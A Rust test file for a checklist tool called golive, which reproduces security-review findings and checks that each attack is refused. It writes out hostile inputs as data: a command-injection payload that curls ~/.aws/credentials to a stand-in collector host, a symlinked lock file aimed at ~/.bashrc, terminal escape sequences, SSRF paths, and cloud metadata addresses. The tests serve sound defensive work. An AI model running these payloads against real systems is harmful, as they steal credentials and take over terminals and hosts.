//! Session and checklist files come from other people's branches: each finding of the security
//! review of 52bd361, reproduced, and refused. The files here are written the way an attacker
//! would write them, as text, not built through golive's own types.

mod common;

use common::{app, render, screen_text, typed};
use golive::checklist::Checklist;
use golive::probe::engine::{self, Ctx};
use golive::probe::target::Target;
use golive::probe::{Outcome, ProbeResult, ProbeSpec, Verdict};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::Arc;
use std::time::{Duration, Instant};

/// The header of a session for the embedded checklist, as text.
fn header() -> String {
    let c = Checklist::embedded();
    format!(
        "schema_version = 1\nchecklist = {:?}\nchecklist_version = {:?}\ncreated = \"2026-11-25T09:30:00Z\"\n",
        c.id, c.version
    )
}

/// golive with a clean environment whose home is `home`.
fn golive(home: &Path, args: &[&str], env: &[(&str, &str)]) -> Output {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_golive"));
    cmd.env_clear().env("PATH", std::env::var("PATH").unwrap()).env("HOME", home).current_dir(home);
    cmd.envs(env.iter().copied());
    cmd.args(args).output().unwrap()
}

fn text(o: &[u8]) -> String {
    String::from_utf8_lossy(o).into_owned()
}

fn mode(path: &Path) -> u32 {
    std::fs::metadata(path).unwrap().permissions().mode() & 0o777
}

/// Bytes a terminal acts on: ESC, BEL, CSI (C1) and the rest of C0/C1 but line ends and tabs.
fn acts_on_a_terminal(s: &str) -> Option<char> {
    s.chars().find(|c| c.is_control() && *c != '\n' && *c != '\t')
}

fn spec(kind: &str, params: &str) -> ProbeSpec {
    ProbeSpec { kind: kind.into(), params: toml::from_str(params).unwrap() }
}

async fn probe(ctx: Ctx, spec: ProbeSpec) -> ProbeResult {
    engine::run_job(Arc::new(ctx), vec![spec], Duration::from_secs(5)).await
}

fn no_aws() -> Result<golive::probe::aws::AwsConn, Verdict> {
    Err(Verdict::error("no AWS here"))
}

// 1. A committed lock file linked to ~/.bashrc was truncated and overwritten.
#[test]
fn a_lock_file_committed_beside_the_session_is_never_followed() {
    let home = tempfile::tempdir().unwrap();
    let h = home.path();
    let victim = h.join(".bashrc");
    std::fs::write(&victim, "export PATH=$PATH:~/bin\n").unwrap();
    std::fs::write(h.join("s.toml"), header()).unwrap();
    std::os::unix::fs::symlink(&victim, h.join(".s.toml.lock")).unwrap();
    let out = golive(h, &["check", "--session", "s.toml", "--only", "operations.runbooks"], &[]);
    assert!(matches!(out.status.code(), Some(1 | 2)), "{}", text(&out.stderr));
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "export PATH=$PATH:~/bin\n");
    // The lock is golive's own file, in the user's state dir, 0600 in a 0700 dir; the log too.
    let locks = h.join(".local/state/golive/locks");
    let lock: Vec<PathBuf> = std::fs::read_dir(&locks).unwrap().map(|e| e.unwrap().path()).collect();
    assert_eq!(lock.len(), 1, "{lock:?}");
    assert_eq!((mode(&lock[0]), mode(&locks)), (0o600, 0o700));
    let logs = h.join(".local/state/golive/log");
    let log = std::fs::read_dir(&logs).unwrap().next().unwrap().unwrap().path();
    assert_eq!((mode(&log), mode(&logs)), (0o600, 0o700));
}

// 2. The consent prompt showed `$(to…[masked, 39 chars]` in a box that cut the command off.
#[test]
fn the_consent_question_shows_the_whole_command_unmasked_with_its_directory() {
    let payload = "export API_TOKEN=\"$(touch /tmp/pwned-by-golive)\"; ./rollback.sh --dry-run \
                   && curl -s --data-binary @$HOME/.aws/credentials https://collector.example/upload";
    let mut a = app();
    common::reload(&mut a, |s| {
        s.target.repo = Some("service".into());
        s.target.commands.insert("rollback".into(), payload.into());
    });
    typed(&mut a, "A");
    let screen = screen_text(&render(&mut a, 100, 30)).replace('║', " ");
    let joined: String = screen.split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(!joined.contains("masked"), "{screen}");
    for part in [
        "export API_TOKEN=\"$(touch /tmp/pwned-by-golive)\";",
        "@$HOME/.aws/credentials",
        "https://collector.example/upload",
    ] {
        assert!(joined.contains(part), "{part} not shown:\n{screen}");
    }
    assert!(joined.contains("in /srv/launch/service"), "{screen}");
    assert!(joined.contains("shell metacharacters: $ ( ) ; &"), "{screen}");
    // On a small terminal the question scrolls; the command is never cut.
    let small = screen_text(&render(&mut a, 60, 12));
    assert!(small.contains("A command check asks to run"), "{small}");
    typed(&mut a, "jjjjjjjjjj");
    let scrolled = screen_text(&render(&mut a, 60, 12));
    assert!(scrolled.contains("y run it"), "{scrolled}");
    // The audit line names exactly what was allowed.
    typed(&mut a, "y");
    assert_eq!(a.session().history.last().unwrap().change, format!("command allowed: {payload}"));
}

// 3. `repo = "$HOME"` listed ~/.ssh and stored secret-scan findings in the shared session.
#[test]
fn a_session_cannot_point_the_repository_checks_at_the_home_directory() {
    let home = tempfile::tempdir().unwrap();
    let h = home.path();
    std::fs::create_dir_all(h.join(".ssh")).unwrap();
    std::fs::write(h.join(".ssh/id_ed25519"), "-----BEGIN OPENSSH PRIVATE KEY-----\nxx\n").unwrap();
    std::fs::create_dir_all(h.join(".aws")).unwrap();
    std::fs::write(h.join(".aws/credentials"), "aws_access_key_id = AKIAQ3EGRTXBWZ7MXK4P\n").unwrap();
    let checkout = h.join("work/service");
    std::fs::create_dir_all(checkout.join(".git")).unwrap();
    std::fs::create_dir_all(checkout.join("docs/runbooks")).unwrap();
    std::fs::write(checkout.join("docs/runbooks/restart.md"), "# Restart\n").unwrap();
    let session = checkout.join("launch/s.toml");
    std::fs::create_dir_all(session.parent().unwrap()).unwrap();
    let only = ["--only", "operations.runbooks", "security.secrets-management"];
    let run = |repo: &str, extra: &[&str]| {
        let files = "[target.files]\nrunbooks = [\".ssh/*\", \".aws/*\", \"**/*.md\"]\n";
        std::fs::write(&session, format!("{}\n[target]\nrepo = {repo:?}\n\n{files}", header())).unwrap();
        let sp = session.display().to_string();
        let args = [&["check", "--session", &sp, "--format", "json"][..], &only, extra].concat();
        let out = golive(h, &args, &[]);
        let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap_or_default();
        assert!(doc["results"].is_array(), "{repo}: {}", text(&out.stderr));
        (doc, std::fs::read_to_string(&session).unwrap())
    };
    let runbooks = |doc: &serde_json::Value| {
        doc["results"].as_array().unwrap().iter().find(|r| r["id"] == "operations.runbooks").unwrap().clone()
    };
    for repo in [h.display().to_string(), "../..".into(), "../../..".into(), "/".into(), "/proc/self".into()]
    {
        let (doc, saved) = run(&repo, &[]);
        for r in doc["results"].as_array().unwrap() {
            assert_eq!(r["outcome"], "error", "{repo}: {r:#}");
        }
        for leaked in ["id_ed25519", "credentials", "AKIA", "PRIVATE"] {
            assert!(!saved.contains(leaked), "{repo}: {leaked} in\n{saved}");
        }
    }
    // The home directory stays refused even when the person names it themselves.
    let home_arg = h.display().to_string();
    let (doc, _) = run(&home_arg, &["--repo", &home_arg]);
    assert!(runbooks(&doc)["summary"].as_str().unwrap().contains("golive never scans it"), "{doc:#}");
    // Inside the checkout, relative: looked at. A directory elsewhere: only when the person says so.
    let (doc, _) = run(".", &[]);
    assert_eq!(runbooks(&doc)["outcome"], "pass", "{doc:#}");
    let elsewhere = h.join("other");
    std::fs::create_dir_all(elsewhere.join("runbooks")).unwrap();
    std::fs::write(elsewhere.join("runbooks/a.md"), "# A\n").unwrap();
    let (doc, _) = run(&elsewhere.display().to_string(), &[]);
    assert!(
        runbooks(&doc)["summary"].as_str().unwrap().contains("outside this session's checkout"),
        "{doc:#}"
    );
    let (doc, _) = run("ignored", &["--repo", &elsewhere.display().to_string()]);
    assert_eq!(runbooks(&doc)["outcome"], "pass", "{doc:#}");
}

// 4. serde errors quoting a hostile key wrote OSC 52, a screen clear and a fake GO line to stderr;
// check reports, `golive sessions` and the TUI export passed escapes on too.
#[test]
fn no_escape_from_a_file_reaches_the_terminal_outside_the_tui() {
    let home = tempfile::tempdir().unwrap();
    let h = home.path();
    let hostile = "\u{1b}]52;c;cHduZWQ=\u{7}\u{1b}[2J\u{1b}[1;1HGO: all checks passed\u{9b}2J";
    let session = h.join("s.toml");
    // The key as TOML writes it, with \u escapes: what a committed file holds.
    let key = serde_json::to_string(hostile).unwrap();
    std::fs::write(&session, format!("{}\n[items.{key}]\nnotes = \"x\"\n", header())).unwrap();
    for args in
        [&["check", "--session", "s.toml"][..], &["export", "--session", "s.toml"], &["--session", "s.toml"]]
    {
        let out = golive(h, args, &[]);
        let err = text(&out.stderr);
        assert_eq!(out.status.code(), Some(3), "{args:?}: {err}");
        assert!(err.contains("is not an id"), "{args:?}: {err}");
        assert_eq!(acts_on_a_terminal(&err), None, "{args:?}: {err:?}");
    }
    // A checklist whose titles carry escapes: every report format is safe to print.
    let checklist = h.join("c.toml");
    let title = "Runbooks \u{1b}[2J\u{9b}1;1H done";
    std::fs::write(
        &checklist,
        format!(
            "schema_version = 1\nid = \"hostile\"\nname = {n}\nversion = \"1\"\n\n[[sections]]\nid = \"ops\"\ntitle = {n}\n\n\
             [[sections.groups]]\ntitle = {n}\n\n[[sections.groups.items]]\nid = \"ops.runbooks\"\ntitle = {n}\n\
             description = {n}\nprobe = {{ kind = \"file\", name = \"runbooks\", paths = [\"*.md\"] }}\n",
            n = toml::Value::String(title.into())
        ),
    )
    .unwrap();
    let c = checklist.display().to_string();
    for format in ["text", "json", "junit", "markdown"] {
        let out = golive(h, &["check", "--checklist", &c, "--session", "h.toml", "--format", format], &[]);
        let (stdout, stderr) = (text(&out.stdout), text(&out.stderr));
        assert!(stdout.contains("Runbooks"), "{format}: {stdout}{stderr}");
        assert_eq!(acts_on_a_terminal(&stdout), None, "{format}: {stdout:?}");
        assert_eq!(acts_on_a_terminal(&stderr), None, "{format}: {stderr:?}");
    }
    // `golive sessions` lists a session whose name and checklist id are escapes.
    let sessions = h.join("data/golive/sessions");
    std::fs::create_dir_all(&sessions).unwrap();
    std::fs::write(
        sessions.join("\u{1b}[2Jlaunch.toml"),
        "schema_version = 1\nchecklist = \"\\u001b]0;owned\\u0007\"\n",
    )
    .unwrap();
    let out = golive(h, &["sessions"], &[("XDG_DATA_HOME", h.join("data").to_str().unwrap())]);
    let listed = text(&out.stdout);
    assert!(listed.contains("launch"), "{listed}{}", text(&out.stderr));
    assert_eq!(acts_on_a_terminal(&listed), None, "{listed:?}");
}

// 4. The TUI's `x` export followed a report link committed beside the session.
#[test]
fn the_tui_export_never_writes_through_a_link() {
    let home = tempfile::tempdir().unwrap();
    let h = home.path();
    let victim = h.join("victim.txt");
    std::fs::write(&victim, "keep me\n").unwrap();
    std::os::unix::fs::symlink(&victim, h.join("s-report.md")).unwrap();
    let sp = h.join("s.toml").display().to_string();
    let mut tui = common::pty::Tui::spawn(&["--session", &sp], h, 100, 30);
    tui.wait_for("1 Security");
    tui.send("x");
    tui.wait_for("Write the report to");
    tui.send("\r");
    tui.wait_for("is a link or a device, not a report: not written");
    tui.send("q");
    assert!(tui.wait_exit().success());
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "keep me\n");
    assert!(std::fs::symlink_metadata(h.join("s-report.md")).unwrap().file_type().is_symlink());
}

// 5. An orphaned answer's key forged a section and a ticked task in the report.
#[test]
fn an_answer_key_cannot_forge_the_report() {
    let c = Checklist::embedded();
    let forged = "x\n## 10. Forged section\n- [x] forged";
    let key = serde_json::to_string(forged).unwrap();
    let text = format!("{}\n[items.{key}]\nstatus = \"pass\"\n", header());
    let e = golive::session::parse("s.toml", &text, &c).unwrap_err();
    assert_eq!((e.line, e.col), (6, 8), "{e}");
    assert!(e.message.contains("is not an id"), "{e}");
    // Were one to get in all the same (an older file, another tool), the report escapes it.
    let mut s = golive::session::Session::new(&c, common::fixed_now());
    s.record_mut(forged).status = golive::session::Status::Pass;
    let decision = golive::gate::of_session(&c, &s, common::fixed_now());
    let meta = golive::export::markdown::Meta {
        session_path: "s.toml",
        generated: common::fixed_now(),
        full_evidence: false,
        decision: &decision,
        files: &[],
    };
    let report = golive::export::markdown::render(&c, &s, &meta);
    assert!(!report.lines().any(|l| l.starts_with("## 10.") || l == "- [x] forged"), "{report}");
}

// 6. /dev/zero as a session or a CA file filled memory; a FIFO hung past every timeout; the http
// probe's body read an endless answer (5.8 GB in 7 s).
#[tokio::test]
async fn devices_pipes_and_endless_answers_are_read_bounded() {
    let home = tempfile::tempdir().unwrap();
    let h = home.path().to_path_buf();
    std::os::unix::fs::symlink("/dev/zero", h.join("zero.toml")).unwrap();
    for args in [&["export", "--session", "zero.toml"][..], &["probes", "--checklist", "zero.toml"]] {
        let start = Instant::now();
        let out = golive(&h, args, &[]);
        assert_eq!(out.status.code(), Some(3));
        assert!(text(&out.stderr).contains("not a regular file (a device)"), "{}", text(&out.stderr));
        assert!(start.elapsed() < Duration::from_secs(5));
    }
    let fifo = h.join("ca.pem");
    let c = std::ffi::CString::new(fifo.to_str().unwrap()).unwrap();
    // SAFETY: mkfifo(3) on a NUL-terminated path that lives across the call.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
    let server = endless_server().await;
    for ca in ["/dev/zero".to_string(), fifo.display().to_string()] {
        let target = Target {
            endpoint: Some(format!("http://{server}")),
            ca_file: Some(ca.clone()),
            ..Default::default()
        };
        let start = Instant::now();
        let r = probe(Ctx::new(no_aws(), target), spec("http", "paths = [\"/\"]")).await;
        assert_eq!(r.outcome, Outcome::Error, "{ca}: {r:?}");
        assert!(r.summary.contains("not a regular file"), "{ca}: {}", r.summary);
        assert!(start.elapsed() < Duration::from_secs(3), "{ca}: {:?}", start.elapsed());
    }
    let target = Target { endpoint: Some(format!("http://{server}")), ..Default::default() };
    let start = Instant::now();
    let r = probe(Ctx::new(no_aws(), target), spec("http", "paths = [\"/\"]\nbody = \"never-there\"")).await;
    assert_eq!(r.outcome, Outcome::Fail, "{r:?}");
    assert!(r.evidence[0].contains("body does not match"), "{r:?}");
    assert!(start.elapsed() < Duration::from_secs(5), "{:?}", start.elapsed());
}

/// A server on loopback that answers 200 and a body that never ends.
async fn endless_server() -> std::net::SocketAddr {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move {
        while let Ok((mut sock, _)) = listener.accept().await {
            tokio::spawn(async move {
                let mut buf = [0u8; 1024];
                let _ = sock.read(&mut buf).await;
                let _ = sock.write_all(b"HTTP/1.1 200 OK\r\ncontent-type: text/plain\r\n\r\n").await;
                let chunk = vec![b'a'; 64 * 1024];
                while sock.write_all(&chunk).await.is_ok() {}
            });
        }
    });
    addr
}

// 7. Paths from a file replaced the endpoint's host; metadata addresses were asked like any host.
#[tokio::test]
async fn http_checks_stay_on_the_endpoint_and_off_metadata_addresses() {
    let server = endless_server().await;
    for path in ["//evil.example/x", "http://127.0.0.1:9/steal", "relative", "/\\\\evil.example"] {
        let target = Target {
            endpoint: Some(format!("http://{server}")),
            smoke_paths: vec![path.into()],
            ..Default::default()
        };
        let r = probe(Ctx::new(no_aws(), target), spec("http", "from = \"smoke\"")).await;
        assert_eq!(r.outcome, Outcome::Error, "{path}: {r:?}");
        assert!(r.summary.contains("must start with a single /"), "{path}: {}", r.summary);
    }
    for (endpoint, why) in [
        ("http://169.254.169.254/latest/meta-data/", "link-local or metadata address"),
        ("http://[fe80::1]/", "link-local or metadata address"),
        ("http://[fd00:ec2::254]/", "link-local or metadata address"),
        ("http://alice:hunter2@127.0.0.1:9/", "holds a user name or password"),
        ("file:///etc/passwd", "only http and https"),
    ] {
        let target = Target { endpoint: Some(endpoint.into()), ..Default::default() };
        let r = probe(Ctx::new(no_aws(), target), spec("http", "paths = [\"/\"]")).await;
        assert_eq!(r.outcome, Outcome::Error, "{endpoint}: {r:?}");
        assert!(r.summary.contains(why), "{endpoint}: {}", r.summary);
        assert!(!format!("{r:?}").contains("hunter2"), "{r:?}");
    }
    // The person may allow them: then it is asked (and here, nothing answers in time).
    let target = Target { endpoint: Some("http://169.254.169.254/".into()), ..Default::default() };
    let ctx = Ctx::new(no_aws(), target).allowing_link_local(true);
    let r = engine::run_job(Arc::new(ctx), vec![spec("http", "paths = [\"/\"]")], Duration::from_millis(300))
        .await;
    assert!(!r.summary.contains("link-local"), "{r:?}");
}

// 8. Commands inherited golive's AWS credentials; bare values and older tokens went unmasked.
#[test]
fn commands_do_not_inherit_aws_credentials_and_their_values_are_masked() {
    let home = tempfile::tempdir().unwrap();
    let h = home.path();
    std::fs::create_dir_all(h.join("repo")).unwrap();
    let secret = "plainSecretValueWithoutAnyShape-1234";
    // The command prints the secret without naming it: golive masks what it knows to be secret.
    let command = "env | grep -c '^AWS_SECRET' ; echo leaked $SAME_VALUE_ELSEWHERE";
    std::fs::write(
        h.join("s.toml"),
        format!("{}\n[target]\nrepo = \"repo\"\n\n[target.commands]\nunit = {command:?}\n", header()),
    )
    .unwrap();
    let out = golive(
        h,
        &[
            "check",
            "--session",
            "s.toml",
            "--only",
            "testing.unit-tests",
            "--allow-commands",
            "--format",
            "json",
        ],
        &[
            ("AWS_SECRET_ACCESS_KEY", secret),
            ("AWS_ACCESS_KEY_ID", "AKIAQ3EGRTXBWZ7MXK4P"),
            ("SAME_VALUE_ELSEWHERE", secret),
        ],
    );
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let r = &doc["results"][0];
    let evidence = r["evidence"].to_string();
    assert!(evidence.contains("| 0"), "the command saw AWS_SECRET_*: {r:#}");
    assert!(evidence.contains("leaked [masked]"), "{r:#}");
    for place in [text(&out.stdout), std::fs::read_to_string(h.join("s.toml")).unwrap()] {
        assert!(!place.contains(secret), "{place}");
    }
    // The shapes the rules missed.
    let key = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY";
    for line in [
        format!("SecretAccessKey: {key}"),
        key.to_string(),
        "token FQoGZXIvYXdzEFUaDKo6Ls3m9Qp1Wv8Zr2Tn4Xb7Yc0Hd5Je6Kf1Mg3Ph8Sa2Ut9Vw4Xy7Zq0Rb5Nc".into(),
        "git 3f786850e387550fdab836ed7e6dc881de23001b is a hash, kept".into(),
    ] {
        let masked = golive::mask::mask(&line);
        if line.starts_with("git") {
            assert_eq!(masked, line);
        } else {
            assert!(
                masked.contains("[masked]") && !masked.contains("EXAMPLEKEY") && !masked.contains("Ls3m9Qp1"),
                "{masked}"
            );
        }
    }
    // A masked secret keeps neither its first characters nor its length.
    assert_eq!(golive::mask::mask("key AKIAQ3EGRTXBWZ7MXK4P"), "key [masked]");
}

// 9. Evidence whose sha256 is not hex panicked the TUI on every open.
#[test]
fn evidence_hashes_are_checked_on_load() {
    let home = tempfile::tempdir().unwrap();
    let h = home.path();
    std::fs::write(
        h.join("s.toml"),
        format!(
            "{}\n[[items.\"security.api-authentication\".evidence]]\nkind = \"file\"\nvalue = \"/etc/hosts\"\n\
             size = 1\nsha256 = \"ééééééééééééééé\"\nby = \"x\"\nat = \"2026-11-25T09:30:00Z\"\n",
            header()
        ),
    )
    .unwrap();
    let out = golive(h, &["export", "--session", "s.toml"], &[]);
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(3), "{err}");
    assert!(err.contains("s.toml:10:10: evidence of security.api-authentication: sha256"), "{err}");
    assert!(!err.contains("panicked"), "{err}");
}

// 10. URL userinfo went into evidence in clear; JSON and JUnit let C1 controls through.
#[test]
fn urls_lose_their_passwords_and_reports_escape_c1_controls() {
    let masked = golive::mask::mask("runbook at https://bob:s3cr3t-pass@wiki.example/ops");
    assert_eq!(masked, "runbook at https://bob:[masked]@wiki.example/ops");
    let home = tempfile::tempdir().unwrap();
    let h = home.path();
    std::fs::write(
        h.join("s.toml"),
        format!(
            "{}\n[target]\nendpoint = \"http://127.0.0.1:9/\"\nsmoke_paths = [\"/\\u009b2J\"]\n",
            header()
        ),
    )
    .unwrap();
    for format in ["json", "junit"] {
        let out = golive(
            h,
            &["check", "--session", "s.toml", "--only", "testing.smoke-tests", "--format", format],
            &[],
        );
        let stdout = text(&out.stdout);
        assert!(stdout.contains("smoke"), "{stdout}");
        assert_eq!(acts_on_a_terminal(&stdout), None, "{format}: {stdout:?}");
    }
}
